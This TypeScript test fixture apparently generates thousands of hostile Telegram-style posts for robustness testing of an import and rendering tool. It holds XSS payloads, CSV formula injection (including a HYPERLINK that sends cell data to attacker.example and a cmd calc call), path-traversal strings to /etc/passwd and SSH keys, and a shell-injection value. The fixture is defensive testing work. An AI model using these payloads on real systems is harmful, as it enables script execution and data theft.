import type { Entity, EntityType, ImportItem, MediaKind, SeenPost } from '../utils/post/model'
import { between, mulberry32, pick, type Random } from './random'

/** Called by whatever of a hostile post runs as code; none may. */
export const TRIPWIRE = 'pwned'

const RUNS = `${TRIPWIRE}(1)`
const CODE = `window.${TRIPWIRE}&&${RUNS}`

/** Attacks on what shows or writes a text, by what they mean to be taken for. */
export const HOSTILE_TEXTS = {
  html: [
    `<script>${RUNS}</script>`,
    `</script><script>${RUNS}</script>`,
    `<img src=x onerror=${RUNS}>`,
    `"><img src=x onerror="${CODE}">`,
    `' autofocus onfocus='${RUNS}' x='`,
    `<svg/onload=${RUNS}>`,
    `<svg><script href="data:,${RUNS}"/></svg>`,
    `<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUNS}&gt;">`,
    `<iframe srcdoc="<script>parent.${RUNS}</script>"></iframe>`,
    `<object data="javascript:${RUNS}"></object><embed src="javascript:${RUNS}">`,
    `<a href="javascript:${RUNS}">x</a>`,
    `<form action="javascript:${RUNS}"><button>x</button></form>`,
    `<base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example/">`,
    `<link rel=stylesheet href=https://attacker.example/x.css><style>@import/**/"https://attacker.example/y.css"</style>`,
    `</title></style></textarea></noscript></template><img src=x onerror=${RUNS}>`,
    `<!--><img src=x onerror=${RUNS}>-->`,
    `<![CDATA[<img src=x onerror=${RUNS}>]]>`,
    `&lt;img src=x onerror=${RUNS}&gt; &#60;script&#62; &#x3c;b>`,
    `<template><slot onslotchange=${RUNS}></template><details open ontoggle=${RUNS}>`,
    `\u{FF1C}script\u{FF1E}${RUNS}\u{FF1C}/script\u{FF1E} +ADw-script+AD4-`,
  ],
  markdown: [
    `[click](javascript:${RUNS})`,
    `![x](https://attacker.example/pixel.png)`,
    `<https://attacker.example> <javascript:${RUNS}>`,
    `[a]: javascript:${RUNS}\n[a]`,
    '---\ntitle: theirs\ntags: [theirs]\n---',
    '```\n``` ```dataviewjs\nthrow 1\n```\n~~~',
    '[[../../secret]] ![[secret]] ((block)) {{query (todo)}} {{embed x}}',
    '<% tp.system.clipboard() %> %%comment%% $$\\input{/etc/passwd}$$',
    '# Heading\n## Another\n===\n* * *\n- [ ] task\n1. one\n> quote\n| a | b |\n|---|---|',
    'theirs:: value\ncollapsed:: true\nid:: 1',
    'www.attacker.example https://attacker.example/) a@attacker.example',
    'trailing  \nspaces\\\nand <br> breaks',
  ],
  csv: [
    '=HYPERLINK("https://attacker.example?"&A1,"x")',
    "=cmd|'/C calc'!A0",
    '+1+1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd',
    '\t=1+1',
    '\r=1+1',
    '\u{FF1D}1+1',
    '"\r\n=1+1,"x',
    '",=1+1,"',
    '";=1+1;"',
    'a\tb\t=1',
  ],
  bookmarks: [
    `</A><DT><A HREF="javascript:${RUNS}">x</A>`,
    `<DD>theirs<DT><A HREF="https://attacker.example" TAGS="theirs">x`,
    `</DL><p><H1>theirs</H1><DL><p>`,
    `" TAGS="theirs" HREF="javascript:${RUNS}`,
  ],
  json: [
    '"}],"posts":[{"key":"theirs"}]}',
    '\n{"post":{"key":"theirs"}}\n',
    '\u2028{"peer":{}}\u2029',
    String.raw`\u003cscript\u003e \" \\" \u0000 \ud800`,
    '{"__proto__":{"polluted":1}}',
  ],
  prototype: ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf', '__defineGetter__'],
  letters: [
    '\u202Egnp.exe \u202Dback \u2066isolated \u2067rtl \u2068first',
    '\u202E\u202E\u202E\u2066\u2066\u2066never closed',
    '\u0627\u0644\u0639\u0631\u0628\u064A\u0629 (\u05E2\u05D1\u05E8\u05D9\u05EA) 12.5%',
    'zero\u200Bwidth\u200Cin\u200Dside\u2060the\uFEFFword',
    '\u200B\u200B\u200B',
    '\uFEFF',
    '\u0000nul\u0000 \u0007bell \u001B[31mred \u009B1m \u007F',
    '\uD800 lone \uDC00 surrogates \uDBFF',
    `Z${'\u0335\u0321\u0336'.repeat(60)}algo`,
    '\u1160\u3164\u00AD\u034F\u061C\u180E',
    '\uFFFE\uFFFF\uFFFC \u{1FFFE}\u{10FFFF}',
    '\u{E0001}\u{E0041}\u{E007F} tags',
    '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u{1F3FF} \u{1F1F0}\u{1F1F7} \u{1F3F4}',
    'line\u2028paragraph\u2029next\u0085\u000B\u000C\r\nend',
    'W'.repeat(3_000),
    '\u1100\u1161\u11A8'.repeat(100),
  ],
  paths: [
    '../../../../etc/passwd',
    '..\\..\\Windows\\System32\\x',
    '/etc/passwd',
    'C:\\autoexec.bat',
    '\\\\attacker.example\\share',
    'CON',
    'nul.txt',
    'LPT1 .md',
    'com\u00B9',
    '.obsidian/plugins/x',
    '.',
    '..',
    ' ... ',
    'name\u0000.exe',
    'a:stream',
    `${'long'.repeat(100)}.md`,
    '%2e%2e%2f',
    '~/.ssh/id_rsa',
    '$(touch x) `x` ;x',
  ],
} as const

const LINKS = [
  `javascript:${RUNS}`,
  `JaVaScRiPt:${RUNS}`,
  `\u0001javascript:${RUNS}`,
  ` \tjava\nscript:${RUNS}`,
  `javascript://attacker.example/%0a${RUNS}`,
  `data:text/html,<script>${RUNS}</script>`,
  'data:image/svg+xml;base64,PHN2Zy8+',
  `vbscript:${RUNS}`,
  `blob:https://web.telegram.org/${RUNS}`,
  'file:///etc/passwd',
  'filesystem:https://t.me/temporary/x',
  'view-source:https://t.me/',
  'chrome://settings',
  'chrome-extension://abcdefghijklmnopabcdefghijklmnop/x.html',
  'about:blank',
  '//attacker.example/x',
  '/relative',
  'intent://x#Intent;scheme=x;end',
  'ms-word:ofe|u|https://attacker.example/x.docm',
  'https://user:password@attacker.example/"><script>x</script>',
  'https://attacker.example/)](javascript:x)[',
  'https://attacker.example/\u202E/gnp.exe',
  'https://xn--80ak6aa92e.example/',
  'http://[::1]:1/',
  'https://attacker.example/?a=1&quot;&lt;b&gt;',
  `tg://resolve?domain=${'x'.repeat(2_000)}`,
  'mailto:a@attacker.example?bcc=b@attacker.example&attach=/etc/passwd',
  `https://attacker.example/${'long/'.repeat(2_000)}`,
  'https://',
  '',
] as const

const ENTITY_TYPES: EntityType[] = [
  'bold',
  'italic',
  'underline',
  'strikethrough',
  'spoiler',
  'code',
  'pre',
  'url',
  'text_link',
  'mention',
  'text_mention',
  'hashtag',
  'cashtag',
  'bot_command',
  'email',
  'phone_number',
  'blockquote',
  'custom_emoji',
  'date_time',
]
const MEDIA_KINDS: MediaKind[] = ['photo', 'video', 'animation', 'voice', 'audio', 'document', 'sticker', 'contact']
const ALL_TEXTS = Object.values(HOSTILE_TEXTS).flat()
const CHANNELS = 40
/** Public names begin with a letter. */
const PUBLIC_NAMES = HOSTILE_TEXTS.prototype.filter((name) => !name.startsWith('_'))
/** One post in so many is as large as posts may be. */
const HUGE_EVERY = 1_000
const MAX_TEXT = 200_000
const MAX_ENTITIES = 10_000
const DAY = 86_400_000

/** A post that is meant to hurt, with hostile words of its reader's: no two are the same. */
export interface HostileItem extends ImportItem {
  post: SeenPost
  tags: string[]
  note: string
}

/** `count` posts, the same each time, in which every field that can hold words holds an attack. */
export function hostileItems(count = 10_000): HostileItem[] {
  const random = mulberry32(6)
  return Array.from({ length: count }, (_, place) => hostileItem(random, place))
}

function hostileItem(random: Random, place: number): HostileItem {
  const word = () => pick(random, ALL_TEXTS) ?? ''
  // Each attack stands at the head of some post; its number tells posts apart.
  const text =
    place % HUGE_EVERY === HUGE_EVERY - 1 ? hugeText(place) : `${ALL_TEXTS[place % ALL_TEXTS.length]} ${place}`
  const channel = place % CHANNELS
  const link = pick(random, LINKS) ?? ''
  return {
    post: {
      client: pick(random, ['web-k', 'web-a', 'preview']),
      peer: {
        kind: 'channel',
        id: 2_000_000_000 + channel,
        ...(channel % 2 === 0 && { username: PUBLIC_NAMES[channel / 2] ?? `hostile_${channel}` }),
        title: ALL_TEXTS[(channel * 7) % ALL_TEXTS.length] ?? '',
      },
      messageId: place + 1,
      text,
      entities: place % HUGE_EVERY === HUGE_EVERY - 1 ? hugeEntities(place, text) : entitiesOn(random, text),
      author: { title: word() },
      signature: word(),
      postedAt: place % 97 === 0 ? -8.64e15 : Date.UTC(2026, 0) + place * 1_000,
      editedAt: Date.UTC(2026, 0) + DAY,
      forward: { peer: { title: word() }, messageId: 1, author: word() },
      reply: { author: word(), text: word() },
      linkPreview: { url: link, site: word(), title: word(), description: word() },
      media: [
        {
          kind: pick(random, MEDIA_KINDS) ?? 'photo',
          fileName: word(),
          title: word(),
          performer: word(),
          emoji: word(),
        },
      ],
      poll: { question: word(), options: [{ text: word(), percent: 1e308 }, { text: word() }] },
      reactions: [{ emoji: word(), emojiId: word(), count: { value: Number.MAX_SAFE_INTEGER } }],
    },
    tags: [word(), `${word()}/${word()}`, `#${place % 300}`],
    note: `${word()}\n${word()} ${place}`,
  }
}

function hugeText(place: number): string {
  return `${place} ${'<b>\u202E=1 '.repeat(MAX_TEXT / 4)}`.slice(0, MAX_TEXT)
}

/** Nested in each other, side by side from the end on, or each reaching over all that come before. */
function hugeEntities(place: number, text: string): Entity[] {
  const step = Math.floor(text.length / MAX_ENTITIES)
  const layout = Math.floor(place / HUGE_EVERY) % 3
  return Array.from({ length: MAX_ENTITIES }, (_, at): Entity => {
    const type = ENTITY_TYPES[at % ENTITY_TYPES.length] ?? 'bold'
    if (layout === 0) return { type, offset: at, length: Math.max(1, text.length - 2 * at) }
    if (layout === 1) return { type, offset: text.length - (at + 1) * step, length: step }
    return { type, offset: 0, length: (at + 1) * step }
  })
}

function entitiesOn(random: Random, text: string): Entity[] {
  return Array.from({ length: between(random, 0, 6) }, (): Entity => ({
    type: pick(random, ENTITY_TYPES) ?? 'bold',
    offset: between(random, 0, text.length + 3),
    length: pick(random, [1, 2, text.length, text.length * 2, Number.MAX_SAFE_INTEGER]) || 1,
    url: pick(random, LINKS) ?? '',
    language: pick(random, ALL_TEXTS) ?? '',
    emojiId: pick(random, HOSTILE_TEXTS.prototype),
  }))
}
